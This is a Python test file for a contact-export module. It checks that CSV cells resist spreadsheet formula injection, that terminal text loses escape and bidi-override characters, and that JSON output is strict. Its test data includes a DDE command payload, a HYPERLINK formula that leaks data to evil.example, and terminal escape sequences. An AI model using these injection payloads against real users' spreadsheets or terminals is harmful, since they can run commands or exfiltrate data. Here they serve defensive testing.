"""Untrusted contact data on the way out: CSV cells no spreadsheet runs, terminal text without
escape sequences, strict JSON."""

from __future__ import annotations

import csv
import io
import json
import math
import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from netgraph.output import (
    csv_cell,
    csv_text,
    json_line,
    json_text,
    spreadsheet_start,
    terminal_text,
    write_csv,
)

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "%")
FORMULA = ("=", "+", "-", "@", "|", "%", "\uff1d", "\uff0b", "\uff0d", "\uff20")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


# --- CSV -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "payload",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/?leak="&A1, "click me")',
        "@SUM(1)",
        "+1+1",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "|calc",
        "%0A=1+1",
        "=1+1",
        "-",
        "+",
        "=",
        # after the whitespace and invisible characters a spreadsheet may skip
        " =1+1",
        "  @SUM(1)",
        "\u3000=1+1",
        "\u00a0+1+1",
        "\u200b=1+1",
        "\ufeff-2+3",
        "\u3000 \u200b=1+1",
        # full-width forms
        "\uff1d1+1",
        "\uff20SUM(1)",
    ],
)
def test_formula_payloads_are_neutralised(payload: str) -> None:
    assert csv_cell(payload) == "'" + payload
    assert read_back(csv_text(["name"], [[payload]])) == [["name"], ["'" + payload]]


@pytest.mark.parametrize(
    "number", ["-1.5", "+1", "-0.25", "42", "-7", "1e5", "-2.5E-3", ".5", " -1.5", "\u3000+1"]
)
def test_plain_numbers_are_left_alone(number: str) -> None:
    assert csv_cell(number) == number


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (-1.5, "-1.5"),
        (-3, "-3"),
        (0, "0"),
        (True, "True"),
        ("Ada Lovelace", "Ada Lovelace"),
    ],
)
def test_cells_of_other_values(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


def test_nul_bytes_are_dropped_before_the_check() -> None:
    assert csv_cell("Ada\x00 Lovelace") == "Ada Lovelace"
    assert csv_cell("\x00=1+1") == "'=1+1"


def test_text_that_only_contains_a_trigger_later_is_untouched() -> None:
    assert csv_cell("Ada = Countess") == "Ada = Countess"
    assert csv_cell("ada@example.com") == "ada@example.com"
    assert csv_cell("Smith-Jones") == "Smith-Jones"


def test_write_csv_quotes_every_field_and_neutralises_every_cell() -> None:
    buffer = io.StringIO()
    write_csv(buffer, ["name", "company", "strength"], [["=evil()", "Acme, Inc.", 0.5]])
    assert buffer.getvalue() == '"name","company","strength"\n"\'=evil()","Acme, Inc.","0.5"\n'


def _is_plain_number(text: str) -> bool:
    return PLAIN_NUMBER.fullmatch(text) is not None


@given(st.text())
@example("-1\n")
@example("=1+1")
@example("\x00-1")
@example("-1.5")
@example(" \u3000=1")
@example("\u200b@x")
def test_any_text_is_written_safely_and_read_back_unchanged(text: str) -> None:
    cleaned = text.replace("\x00", "")
    rows = read_back(csv_text(["value"], [[text]]))
    assert len(rows) == 2
    (cell,) = rows[1]
    shown = spreadsheet_start(cleaned)
    if _is_plain_number(cleaned) or _is_plain_number(shown):
        assert cell == cleaned
    else:
        assert not cell.startswith(TRIGGERS)
        assert not spreadsheet_start(cell).startswith(FORMULA)
        assert cell in (cleaned, "'" + cleaned)
        risky = cleaned.startswith(TRIGGERS) or shown.startswith(FORMULA)
        assert (cell == "'" + cleaned) == risky


# --- Terminal --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[31mRed\x1b[0m", "?[31mRed?[0m"),
        ("\x1b]0;pwned\x07Ada", "?]0;pwned?Ada"),  # OSC title change, BEL
        ("Ada\x9b31mLovelace", "Ada?31mLovelace"),  # C1 CSI
        ("Ada\rEve", "Ada?Eve"),
        ("Ada\x00\x08\x7f", "Ada???"),
        ("\u202eecilA", "?ecilA"),  # right-to-left override
        ("a\u202ab\u202bc\u202cd\u202de", "a?b?c?d?e"),
        ("a\u2066b\u2067c\u2068d\u2069", "a?b?c?d?"),  # isolates
        ("a\u200eb\u200fc\u061cd", "a?b?c?d"),  # marks
        ("José Álvarez 🚀", "José Álvarez 🚀"),
        (None, ""),
        (42, "42"),
    ],
)
def test_terminal_text_replaces_control_characters(text: object, shown: str) -> None:
    assert terminal_text(text) == shown


UNSAFE = {chr(c) for c in [*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0)]} | {
    *"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
}


@given(st.text())
@example("\x1b[2J")
def test_terminal_text_never_contains_escapes_or_overrides(text: str) -> None:
    shown = terminal_text(text)
    assert not UNSAFE & set(shown)
    assert len(shown) == len(text)
    assert all(a == b or b == "?" for a, b in zip(text, shown, strict=True))


# --- JSON ------------------------------------------------------------------------------------


@pytest.mark.parametrize("bad", [math.nan, math.inf, -math.inf])
def test_json_text_refuses_nan_and_infinity(bad: float) -> None:
    with pytest.raises(ValueError):
        json_text({"strength": bad})


@given(st.text())
@example("\x9b31m \u202eevil \u200f")
def test_json_escapes_what_a_terminal_acts_on_and_reads_back_exactly(text: str) -> None:
    for written in (json_text({"name": text}), json_line({"name": text})):
        assert not UNSAFE & set(written)
        assert json.loads(written) == {"name": text}


def test_json_text_is_readable_utf8() -> None:
    document = {"name": "José Álvarez", "strength": 0.5, "sources": []}
    text = json_text(document)
    assert "José Álvarez" in text
    assert json.loads(text) == document
    assert text.startswith('{\n  "name"')
